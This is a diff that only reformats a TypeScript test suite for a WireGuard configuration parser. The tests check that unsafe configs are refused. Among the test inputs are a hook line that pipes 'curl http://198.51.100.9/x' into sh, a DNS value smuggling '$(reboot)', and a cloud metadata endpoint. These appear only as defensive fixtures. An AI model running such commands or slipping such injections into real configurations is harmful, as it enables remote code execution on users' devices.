@@ -21,7 +21,8 @@ function catchRefusal(text: string, fields: Partial<IssuedTunnel> = {}): string 
   throw new Error('it was accepted');
 }
 
-const withLine = (line: string, after = 'DNS') => renderIssuedText({ [after]: `DNS = 1.1.1.1\n${line}` });
+const withLine = (line: string, after = 'DNS') =>
+  renderIssuedText({ [after]: `DNS = 1.1.1.1\n${line}` });
 const inPeer = (line: string) => `${renderIssuedText()}\n${line}`;
 const other = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaA=';
 
@@ -50,15 +51,30 @@ describe('a text', () => {
       `# issued\n${renderIssuedText({ DNS: 'DNS = 1.1.1.1 # a resolver; $(reboot)' })}\n# PostUp = reboot`,
     ],
     ['without spaces', renderIssuedText().replaceAll(' = ', '=')],
-    ['with tabs and blanks', renderIssuedText().replaceAll(' = ', ' \t=\t ').replaceAll('\n', '  \n\t')],
-    ['with keys in any case', renderIssuedText().replace('PrivateKey', 'privatekey').replace('[Peer]', '[PEER]')],
+    [
+      'with tabs and blanks',
+      renderIssuedText().replaceAll(' = ', ' \t=\t ').replaceAll('\n', '  \n\t'),
+    ],
+    [
+      'with keys in any case',
+      renderIssuedText().replace('PrivateKey', 'privatekey').replace('[Peer]', '[PEER]'),
+    ],
     ['without DNS', renderIssuedText({ DNS: undefined })],
     ['with a listening port', withLine('ListenPort = 51820')],
     ['with the peer first', renderIssuedText().split('\n\n').reverse().join('\n')],
-    ['with a wide address, of which one is taken', renderIssuedText({ Address: 'Address = 10.23.45.67/8' })],
+    [
+      'with a wide address, of which one is taken',
+      renderIssuedText({ Address: 'Address = 10.23.45.67/8' }),
+    ],
     ['with a bare address', renderIssuedText({ Address: 'Address = 10.23.45.67' })],
-    ['with an address said twice', renderIssuedText({ Address: 'Address = 10.23.45.67/32, 10.23.45.67' })],
-    ['with 32 addresses', renderIssuedText({ Address: `Address = ${Array(32).fill('10.23.45.67').join(',')}` })],
+    [
+      'with an address said twice',
+      renderIssuedText({ Address: 'Address = 10.23.45.67/32, 10.23.45.67' }),
+    ],
+    [
+      'with 32 addresses',
+      renderIssuedText({ Address: `Address = ${Array(32).fill('10.23.45.67').join(',')}` }),
+    ],
     ['of just 16 KiB', `${renderIssuedText()}\n#`.padEnd(16 * 1024, 'x')],
   ])('%s means the same', (_, text) => {
     expect(parse(text)).toEqual(parse(renderIssuedText()));
@@ -72,7 +88,11 @@ describe('a text', () => {
       PersistentKeepalive: `PersistentKeepalive = off\nPresharedKey = ${other}`,
     });
     const spec = parse(text);
-    expect(spec.addresses.map((own) => own.address)).toEqual(['10.23.45.67', 'fd00::1', '100.64.0.9']);
+    expect(spec.addresses.map((own) => own.address)).toEqual([
+      '10.23.45.67',
+      'fd00::1',
+      '100.64.0.9',
+    ]);
     expect(spec.mtu).toBe(1280);
     expect(spec.peer.presharedKey?.reveal()).toBe(other);
     expect(spec.peer).toMatchObject({
@@ -82,20 +102,26 @@ describe('a text', () => {
     });
   });
 
-  test.each([['localhost:51820'], ['127.0.0.1:51820'], ['[::1]:51820'], ['[::ffff:127.0.0.1]:51820']])(
-    'may lead to %s only where the service is there too',
-    (endpoint) => {
-      const text = renderIssuedText({ Endpoint: `Endpoint = ${endpoint}` });
-      expect(catchRefusal(text)).toMatch(/Endpoint/);
-      if (!endpoint.includes('ffff')) expect(parse(text, {}, true).peer.endpoint.port).toBe(51_820);
-    },
-  );
+  test.each([
+    ['localhost:51820'],
+    ['127.0.0.1:51820'],
+    ['[::1]:51820'],
+    ['[::ffff:127.0.0.1]:51820'],
+  ])('may lead to %s only where the service is there too', (endpoint) => {
+    const text = renderIssuedText({ Endpoint: `Endpoint = ${endpoint}` });
+    expect(catchRefusal(text)).toMatch(/Endpoint/);
+    if (!endpoint.includes('ffff')) expect(parse(text, {}, true).peer.endpoint.port).toBe(51_820);
+  });
 });
 
 test.each<[string, string, object]>([
   ['the last port', 'Endpoint = proxy.example.net:65535', { peer: { endpoint: { port: 65_535 } } }],
   ['the largest MTU', 'MTU = 1500', { mtu: 1500 }],
-  ['the longest keepalive', 'PersistentKeepalive = 65535', { peer: { persistentKeepaliveSeconds: 65_535 } }],
+  [
+    'the longest keepalive',
+    'PersistentKeepalive = 65535',
+    { peer: { persistentKeepaliveSeconds: 65_535 } },
+  ],
   ['a silent peer', 'PersistentKeepalive = 0', { peer: { persistentKeepaliveSeconds: 0 } }],
   [
     'a host that is only called like this device',
@@ -115,7 +141,9 @@ describe('a text is refused', () => {
     (hook) => {
       expect(catchRefusal(withLine(`${hook} = off`))).toContain('would change this device');
       expect(catchRefusal(inPeer(`${hook}=true`))).toContain(hook);
-      expect(catchRefusal(withLine(`${hook} = curl http://198.51.100.9/x|sh`))).not.toContain('curl');
+      expect(catchRefusal(withLine(`${hook} = curl http://198.51.100.9/x|sh`))).not.toContain(
+        'curl',
+      );
     },
   );
 
@@ -128,7 +156,11 @@ describe('a text is refused', () => {
     ['[Peer] twice', `${renderIssuedText()}\n[Peer]\nPublicKey = ${other}`, 'more than one [Peer]'],
     ['[peer] twice in another case', `${renderIssuedText()}\n[peer]`, 'more than one [Peer]'],
     ['another section', `${renderIssuedText()}\n[Evil]`, 'neither [Interface] nor [Peer]'],
-    ['a line before its first section', `MTU = 1400\n${renderIssuedText()}`, 'before its first section'],
+    [
+      'a line before its first section',
+      `MTU = 1400\n${renderIssuedText()}`,
+      'before its first section',
+    ],
     ['half a section', renderIssuedText({ '[Peer]': '[Peer' }), 'not KEY = VALUE'],
     ['words before a section', renderIssuedText({ '[Peer]': 'x [Peer]' }), 'not KEY = VALUE'],
     ['words behind a section', renderIssuedText({ '[Peer]': '[Peer] x' }), 'not KEY = VALUE'],
@@ -215,7 +247,11 @@ describe('a text is refused', () => {
       'ff02::1',
       '2001:db8::1',
       '2606:4700::1111',
-    ].map((address): [string, string, string] => ['Address', `Address = ${address}`, 'not a private one']),
+    ].map((address): [string, string, string] => [
+      'Address',
+      `Address = ${address}`,
+      'not a private one',
+    ]),
     ['Endpoint', undefined, 'not HOST:PORT'],
     ...[
       '',
@@ -231,7 +267,11 @@ describe('a text is refused', () => {
       'proxy.example.net:51820x',
       '[proxy.example.net]:51820',
       '[]:51820',
-    ].map((endpoint): [string, string, string] => ['Endpoint', `Endpoint = ${endpoint}`, 'not HOST:PORT']),
+    ].map((endpoint): [string, string, string] => [
+      'Endpoint',
+      `Endpoint = ${endpoint}`,
+      'not HOST:PORT',
+    ]),
     ...[
       '1.2.3:51820',
       '1.2.3.4.5:51820',
@@ -251,7 +291,11 @@ describe('a text is refused', () => {
       'a/b:51820',
       '[1.2.3.4.5]:51820',
       '[:::]:51820',
-    ].map((endpoint): [string, string, string] => ['Endpoint', `Endpoint = ${endpoint}`, 'impossible host']),
+    ].map((endpoint): [string, string, string] => [
+      'Endpoint',
+      `Endpoint = ${endpoint}`,
+      'impossible host',
+    ]),
     ...[
       '0.0.0.0:51820',
       '169.254.169.254:80',
@@ -261,14 +305,35 @@ describe('a text is refused', () => {
       '[fe80::1]:51820',
       '[ff02::1]:51820',
       '[::ffff:169.254.169.254]:51820',
-    ].map((endpoint): [string, string, string] => ['Endpoint', `Endpoint = ${endpoint}`, "no server's address"]),
-    ...['localhost', 'LocalHost', 'x.localhost', '127.0.0.1', '127.255.0.1', '[::1]', '[0:0:0:0:0:0:0:1]'].map(
-      (host): [string, string, string] => ['Endpoint', `Endpoint = ${host}:51820`, 'this device itself'],
-    ),
+    ].map((endpoint): [string, string, string] => [
+      'Endpoint',
+      `Endpoint = ${endpoint}`,
+      "no server's address",
+    ]),
+    ...[
+      'localhost',
+      'LocalHost',
+      'x.localhost',
+      '127.0.0.1',
+      '127.255.0.1',
+      '[::1]',
+      '[0:0:0:0:0:0:0:1]',
+    ].map((host): [string, string, string] => [
+      'Endpoint',
+      `Endpoint = ${host}:51820`,
+      'this device itself',
+    ]),
     ['AllowedIPs', undefined, 'no AllowedIPs'],
-    ...['', '10.0.0.0/33', '::/129', '0.0.0.0/0,', 'all', '0.0.0.0/0 ::/0', '10.0.0.0/-1', '10/8'].map(
-      (ips): [string, string, string] => ['AllowedIPs', `AllowedIPs = ${ips}`, 'not a prefix'],
-    ),
+    ...[
+      '',
+      '10.0.0.0/33',
+      '::/129',
+      '0.0.0.0/0,',
+      'all',
+      '0.0.0.0/0 ::/0',
+      '10.0.0.0/-1',
+      '10/8',
+    ].map((ips): [string, string, string] => ['AllowedIPs', `AllowedIPs = ${ips}`, 'not a prefix']),
     ['AllowedIPs', `AllowedIPs = ${Array(33).fill('::/0').join(',')}`, 'more than 32'],
   ])('whose %s is %j', (key, line, why) => {
     const message = catchRefusal(renderIssuedText({ [key]: line }));
@@ -304,7 +369,14 @@ describe('a text is refused', () => {
 });
 
 test.each<[string, Partial<IssuedTunnel>]>([
-  ['everything', { privateKey: new Secret(clientKeys.privateKey), publicKey: clientKeys.publicKey, proxyPublicKey }],
+  [
+    'everything',
+    {
+      privateKey: new Secret(clientKeys.privateKey),
+      publicKey: clientKeys.publicKey,
+      proxyPublicKey,
+    },
+  ],
   ['a bare address', { address: '10.23.45.67' }],
   ['an address with its prefix length', { address: '10.23.45.67/32' }],
   ['the proxy', { proxyHost: 'Proxy.Example.NET.', proxyPort: 51_820 }],
@@ -345,14 +417,35 @@ describe('whatever the service sends', () => {
       '\n',
       '\r',
     ],
-    ...[other, clientKeys.privateKey, '10.0.0.1', '::1', '[', ']', ':', '/', ',', '#', '%eth0', '51820', '0.0.0.0/0'],
+    ...[
+      other,
+      clientKeys.privateKey,
+      '10.0.0.1',
+      '::1',
+      '[',
+      ']',
+      ':',
+      '/',
+      ',',
+      '#',
+      '%eth0',
+      '51820',
+      '0.0.0.0/0',
+    ],
   );
   const texts = fc.oneof(
     fc.string({ unit: 'binary', maxLength: 300 }),
     fc.array(words, { maxLength: 40 }).map((parts) => parts.join('')),
     fc
-      .record({ at: fc.nat(renderIssuedText().length), cut: fc.nat(30), insert: fc.oneof(fc.string(), words) })
-      .map(({ at, cut, insert }) => renderIssuedText().slice(0, at) + insert + renderIssuedText().slice(at + cut)),
+      .record({
+        at: fc.nat(renderIssuedText().length),
+        cut: fc.nat(30),
+        insert: fc.oneof(fc.string(), words),
+      })
+      .map(
+        ({ at, cut, insert }) =>
+          renderIssuedText().slice(0, at) + insert + renderIssuedText().slice(at + cut),
+      ),
   );
 
   test('is refused in words of ours, or is a tunnel with keys, private addresses and prefixes', () => {
@@ -361,7 +454,8 @@ describe('whatever the service sends', () => {
         const spec = parse(text, { address });
         expect(spec.addresses.length).toBeGreaterThan(0);
         expect(spec.peer.endpoint.host).toMatch(/^[0-9A-Za-z.:_-]+$/);
-        for (const prefix of spec.peer.allowedIps) expect(prefix).toMatch(/^[0-9a-fA-F.:]+(\/\d+)?$/);
+        for (const prefix of spec.peer.allowedIps)
+          expect(prefix).toMatch(/^[0-9a-fA-F.:]+(\/\d+)?$/);
       } catch (error) {
         if (!(error instanceof TributaryError)) throw error;
         expect(error.code).toBe('wireguard-text-refused');
